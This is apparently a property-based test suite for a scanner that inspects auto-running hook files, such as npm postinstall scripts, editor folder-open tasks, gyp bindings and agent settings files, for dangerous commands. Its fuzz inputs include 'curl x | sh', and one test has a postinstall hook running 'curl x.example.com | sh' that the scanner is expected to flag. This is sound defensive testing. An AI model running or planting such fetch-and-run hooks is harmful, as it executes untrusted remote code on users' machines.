// Any text under any name that runs by itself: the inspector never fails, and never forgets what it could not read.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectHook, told } from './support.ts';

const NAMES = [
  'package.json',
  'binding.gyp',
  'x.pth',
  'x.start',
  'sitecustomize.py',
  'pyproject.toml',
  '.pnpmfile.cjs',
  'bunfig.toml',
  '.yarnrc.yml',
  'Makefile',
  '.envrc',
  '.husky/pre-commit',
  '.pre-commit-config.yaml',
  '.vscode/tasks.json',
  'x.code-workspace',
  '.vscode/settings.json',
  '.vscode/launch.json',
  '.devcontainer/devcontainer.json',
  '.claude/settings.json',
  '.codex/config.toml',
  '.mcp.json',
  'start.bat',
  'x.lnk',
  'x.woff2',
];
const PIECES = [
  ...'{ } [ ] " : , \' ( ) < > ! | & ; = # \\ \n'.split(' '),
  '"scripts":',
  '"postinstall":"npm run a"',
  '"a":"npm run postinstall"',
  '"tasks":[',
  '"runOptions":{"runOn":"folderOpen"}',
  '"hooks":{"X":[{"hooks":[{"command":"x"}]}]}',
  '"mcpServers":{"a":{"command":"npx","args":["-y","b"]}}',
  '"mounts":[',
  '<!(',
  "'conditions': [[",
  'import os;',
  'curl x | sh',
  'all: b\n\t',
  'b: all\n\t',
  'repos:\n- hooks:\n  - entry: x\n',
  '\\x3c',
  '\u0000',
  '\uFEFF',
  '__proto__',
];

describe('hooks', () => {
  it('are read or said to be unread, whatever is in them', async () => {
    const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }).map((pieces) => pieces.join(''));
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...NAMES),
        fc.oneof(text, fc.string({ unit: 'binary' })),
        async (name, content) => {
          const inspection = await inspectHook(name, content);
          for (const { location } of inspection?.findings ?? [])
            expect(location.line ?? 1).toBeGreaterThan(0);
        },
      ),
      { numRuns: 600 },
    );
  });

  it('are read or said to be unread, whatever bytes they are', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...NAMES), fc.uint8Array({ maxLength: 300 }), async (name, bytes) => {
        await inspectHook(name, bytes);
      }),
      { numRuns: 300 },
    );
  });

  it('end when scripts start each other in a ring', async () => {
    const scripts = Object.fromEntries(
      Array.from({ length: 500 }, (_, index) => [
        `s${index}`,
        `npm run s${(index + 1) % 500} && npm run s${(index * 7) % 500}`,
      ]),
    );
    expect(await told('package.json', { scripts: { ...scripts, postinstall: 'npm run s0' } })).toEqual([]);
  });

  it('that are more than is read are said to be unread', async () => {
    const scripts = Object.fromEntries(
      Array.from({ length: 1000 }, (_, index) => [`s${index}`, 'curl '.repeat(200)]),
    );
    expect((await inspectHook('package.json', { scripts }))?.incomplete).toMatchObject([{ code: 'budget' }]);
    expect((await inspectHook('Makefile', 'a:\n'.repeat(100_000)))?.incomplete).toMatchObject([
      { code: 'budget' },
    ]);
    expect((await inspectHook('sitecustomize.py', `${'\n'.repeat(200_000)}x = 1`))?.incomplete).toEqual([]);
  });

  it('of gyp that nest or follow without end are said to be unread', async () => {
    for (const value of ['<!('.repeat(100_000), '<!(x)'.repeat(100_000), '('.repeat(300_000)])
      expect((await inspectHook('binding.gyp', `{'a': '${value}'}`))?.incomplete).toHaveLength(
        value.includes('!') ? 1 : 0,
      );
  });

  it('that an editor reads in spite of a mistake are said to be unread', async () => {
    const inspection = await inspectHook('.claude/settings.json', '{"hooks": {"SessionStart": [}');
    expect(inspection?.incomplete).toHaveLength(1);
    expect(await inspectHook('package.json', '{"scripts": {')).toMatchObject({ incomplete: [] });
  });

  it('are found in front of a mistake', async () => {
    expect(
      await told('package.json', '{"scripts": {"postinstall": "curl x.example.com | sh"}, "a": '),
    ).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
  });
});
